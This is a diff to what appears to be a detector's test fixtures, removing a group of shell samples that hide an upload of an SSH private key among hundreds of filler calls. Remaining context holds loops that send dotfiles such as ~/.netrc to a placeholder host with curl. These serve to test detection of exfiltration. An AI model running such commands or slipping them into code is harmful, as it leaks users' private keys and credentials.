@@ -36,11 +36,6 @@ WAYS = {
         {"a.py": f"import subprocess\nsubprocess.run(['curl', '-o', '/tmp/t', '{HOST}'])\nsubprocess.run(['wc', '-l', '/tmp/t'])\n"},
         {"a.py": "import os, subprocess\nos.chmod('bin/tool', 0o755)\nsubprocess.run(['bin/tool'])\n"},
     ),
-    "call after many others": (
-        {"a.sh": f'n() {{ :; }}\nput() {{ curl -F "f=@$1" {HOST}; }}\n' + "n a\n" * 300 + "put ~/.ssh/id_ed25519\n"},
-        {"a.sh": f'n() {{ :; }}\nput() {{ curl -F "f=@$1" {HOST}; }}\n' + "n ~/.ssh/id_ed25519\n" * 100 + "put a.txt\n"},
-        {"a.sh": 'log() { echo "$1"; }\n' + "log done\n" * 300 + f"curl -F f=@a.txt {HOST}\n"},
-    ),
     "loop with more words than are tried": (
         {"a.sh": f'for f in ~/.bashrc ~/.zshrc ~/.profile ~/.gitconfig a b ~/.netrc; do\n  curl -T "$f" {HOST}\ndone\n'},
         {"a.sh": f'for f in ~/.bashrc ~/.zshrc ~/.profile ~/.gitconfig a b ~/.netrc; do\n  ls "$f"\ndone\ncurl -T a.txt {HOST}\n'},
